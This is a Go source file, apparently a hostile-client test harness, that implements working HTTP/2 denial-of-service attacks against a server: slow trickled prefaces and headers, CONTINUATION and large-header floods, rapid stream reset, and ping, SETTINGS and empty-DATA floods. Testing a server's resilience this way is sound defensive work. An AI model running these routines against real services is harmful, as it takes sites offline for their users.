package hostile

import (
	"context"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// silent opens thousands of connections and says nothing.
func silent(ctx context.Context, a Attacker) {
	together(ctx, 3000, func(ctx context.Context) {
		if conn, closed := dial(ctx, a); conn != nil {
			defer closed()
			a.Seen.heardEnd(ctx, conn)
		}
	})
}

// trickle writes a text byte by byte.
func trickle(ctx context.Context, a Attacker, text string) {
	conn, closed := dial(ctx, a)
	if conn == nil {
		return
	}
	defer closed()
	for i := range len(text) {
		if _, err := conn.Write([]byte{text[i]}); err != nil {
			a.Seen.heardEnd(ctx, conn)
			return
		}
		if !pause(ctx, 100*time.Millisecond) {
			return
		}
	}
}

func trickledPreface(ctx context.Context, a Attacker) {
	together(ctx, 500, func(ctx context.Context) { trickle(ctx, a, http2.ClientPreface) })
}

// trickledHeaders never ends the headers of a stream: one more field comes, and one more.
func trickledHeaders(ctx context.Context, a Attacker) {
	together(ctx, 200, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			if c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.call(streamS3)}) != nil {
				return
			}
			for c.WriteContinuation(1, false, []byte{0, 1, 'x', 1, 'y'}) == nil && pause(ctx, 100*time.Millisecond) {
			}
		})
	})
}

// endlessHeaders sends headers as fast as they are taken.
func endlessHeaders(ctx context.Context, a Attacker) {
	together(ctx, 20, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			if c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.call(streamS3)}) != nil {
				return
			}
			block := c.call(streamS3, hpack.HeaderField{Name: "x", Value: strings.Repeat("y", frame-200)})
			for c.WriteContinuation(1, false, block) == nil && ctx.Err() == nil {
			}
		})
	})
}

// largeHeaders sends lists of some megabytes.
func largeHeaders(ctx context.Context, a Attacker) {
	together(ctx, 20, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			first := strings.Clone(string(c.call(streamS3)))
			if c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte(first)}) != nil {
				return
			}
			c.headers.Reset()
			_ = c.encoder.WriteField(hpack.HeaderField{Name: "authorization", Value: strings.Repeat("y", 4<<20)}) // into memory
			for block := c.headers.Bytes(); len(block) > 0; {
				n := min(frame, len(block))
				if c.WriteContinuation(1, n == len(block), block[:n]) != nil {
					return
				}
				block = block[n:]
			}
		})
	})
}

// rapidReset opens streams and resets them at once.
func rapidReset(ctx context.Context, a Attacker) {
	together(ctx, 20, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			c.reset(ctx, "wrong")
		})
	})
}

// reset opens and resets streams until the connection or ctx ends.
func (c *framed) reset(ctx context.Context, secret string) {
	for ctx.Err() == nil {
		id, err := c.open(c.call(streamS3, token(secret)))
		if err != nil || c.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

// rapidResetOfCallers does it over connections over which a call is under way that was let in.
func rapidResetOfCallers(ctx context.Context, a Attacker) {
	together(ctx, 20, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			if _, err := c.open(c.call(streamS3, token(a.Token))); err != nil || !pause(ctx, answered) {
				return
			}
			c.reset(ctx, a.Token)
		})
	})
}

func pings(ctx context.Context, a Attacker) {
	together(ctx, 20, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			for c.WritePing(false, [8]byte{}) == nil && ctx.Err() == nil {
			}
		})
	})
}

func settings(ctx context.Context, a Attacker) {
	together(ctx, 20, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			for c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}) == nil && ctx.Err() == nil {
			}
		})
	})
}

// emptyData sends frames that no flow control bounds.
func emptyData(ctx context.Context, a Attacker) {
	together(ctx, 20, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			id, err := c.open(c.call(health))
			for err == nil && ctx.Err() == nil {
				if err = c.WriteData(id, false, nil); err == nil {
					err = c.WriteWindowUpdate(0, 1)
				}
			}
		})
	})
}
